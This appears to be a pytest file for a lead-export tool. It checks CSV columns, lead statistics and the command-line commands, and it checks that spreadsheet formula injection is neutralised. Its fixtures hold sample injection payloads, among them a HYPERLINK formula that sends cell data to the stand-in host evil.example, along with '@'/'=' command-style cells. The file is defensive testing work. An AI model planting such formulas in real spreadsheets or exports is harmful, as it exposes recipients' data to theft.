"""Export and stats of leads stored by the running service: one column per form field, no
cell a spreadsheet would execute, counts by form and by source."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from datetime import date
from pathlib import Path

import pytest

from leadpress.forms.loading import read_forms_json
from leadpress.forms.models import ATTRIBUTION_FIELDS
from leadpress.leads.export import export_csv, neutralise, stats
from leads_helpers import BACKENDS, Service, database, demo, webinar, write_forms_json

HYPERLINK = '=HYPERLINK("https://evil.example/steal?d="&A1,"Open invoice")'
FIELDS = ["email", "full_name", "company", "role", "consent", "phone", "message"]


@pytest.fixture(scope="module", params=BACKENDS)
def seeded(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory):
    """A database with four leads sent through the service; (db URL, forms.json)."""
    folder = tmp_path_factory.mktemp(f"export-{request.param}")
    db_url = database(request.param, folder)
    forms_path = write_forms_json(folder)
    service = Service(forms_path, db_url, folder / "service.log", "--no-outbox").start()
    try:
        sent = [
            ("webinar-registration", webinar(company=HYPERLINK, full_name="@SUM(1+1)*cmd")),
            ("webinar-registration", webinar(first_utm_campaign="spring", last_ref=None)),
            ("demo-request", demo(message="-2+3 more seats\nand\ttabs")),
            ("demo-request", demo(first_utm_source=None, first_utm_campaign=None, last_ref="p1")),
        ]
        for form, data in sent:
            assert service.submit(form, data).status_code == 201
    finally:
        service.stop()
    return db_url, forms_path


def _read(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.reader(stream))


def test_export_has_a_column_per_field_and_neutralises_formulas(
    seeded: tuple[str, Path], tmp_path: Path
) -> None:
    db_url, forms_path = seeded
    out = tmp_path / "leads.csv"
    count = export_csv(db_url, out, forms=read_forms_json(forms_path))
    assert count == 4
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads Chinese as UTF-8
    header, *rows = _read(out)
    assert header == ["created_at", "form", "page_path", "id", *FIELDS, *ATTRIBUTION_FIELDS]
    records = [dict(zip(header, row, strict=True)) for row in rows]
    first = records[0]
    assert first["company"] == "'" + HYPERLINK
    assert first["full_name"] == "'@SUM(1+1)*cmd"
    assert first["first_utm_campaign"] == "renewal-forecast-2027"
    demo_rows = [record for record in records if record["form"] == "demo-request"]
    assert demo_rows[0]["message"] == "'-2+3 more seats\nand\ttabs"
    assert demo_rows[0]["phone"] == "'+86 21 5555 0100"  # a + is a formula start too
    assert demo_rows[0]["full_name"] == "李伟"
    assert demo_rows[0]["role"] == ""
    for record in records:
        for value in record.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_export_of_one_form_and_from_a_date(seeded: tuple[str, Path]) -> None:
    db_url, forms_path = seeded
    forms = read_forms_json(forms_path)
    out = io.StringIO()
    assert export_csv(db_url, out, form="demo-request", forms=forms) == 2
    header = next(csv.reader(io.StringIO(out.getvalue())))
    assert header[4:9] == ["email", "full_name", "company", "phone", "message"]
    assert "role" not in header
    assert export_csv(db_url, io.StringIO(), since=date(2000, 1, 1), forms=forms) == 4
    assert export_csv(db_url, io.StringIO(), since=date(2999, 1, 1), forms=forms) == 0


def test_stats_counts_by_form_and_source(seeded: tuple[str, Path]) -> None:
    figures = stats(seeded[0])
    assert figures["leads"] == 4
    assert figures["form"] == {"webinar-registration": 2, "demo-request": 2}
    assert figures["first_utm_campaign"] == {
        "renewal-forecast-2027": 1,
        "spring": 1,
        "brand": 1,
        "(none)": 1,
    }
    assert figures["first_utm_source"] == {"newsletter": 2, "google": 1, "(none)": 1}
    assert figures["last_utm_campaign"] == {"renewal-forecast-2027": 2, "(none)": 2}
    assert figures["last_ref"] == {"(none)": 2, "northwind": 1, "p1": 1}
    assert figures["first_ref"] == {"(none)": 4}
    assert figures["outbox"] == {"pending": 0, "delivered": 0}


def test_export_and_stats_commands(seeded: tuple[str, Path], tmp_path: Path) -> None:
    db_url, forms_path = seeded
    out = tmp_path / "cli.csv"
    leads = [sys.executable, "-m", "leadpress.leads"]
    result = subprocess.run(
        [*leads, "export", "--forms", str(forms_path), "--db", db_url, "--out", str(out)],
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stderr
    assert "Wrote 4 leads" in result.stderr
    assert _read(out)[0][4:11] == FIELDS
    result = subprocess.run(
        [*leads, "stats", "--db", db_url, "--format", "json"], capture_output=True, text=True
    )
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout) == stats(db_url)
    table = subprocess.run([*leads, "stats", "--db", db_url], capture_output=True, text=True)
    assert "Leads: 4" in table.stdout
    assert "webinar-registration" in table.stdout


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-1", "'-1"),
        ("@cmd", "'@cmd"),
        ("\tindent", "'\tindent"),
        ("\rline", "'\rline"),
        ("Ada = Quist", "Ada = Quist"),
        ("", ""),
    ],
)
def test_neutralise(cell: str, safe: str) -> None:
    assert neutralise(cell) == safe
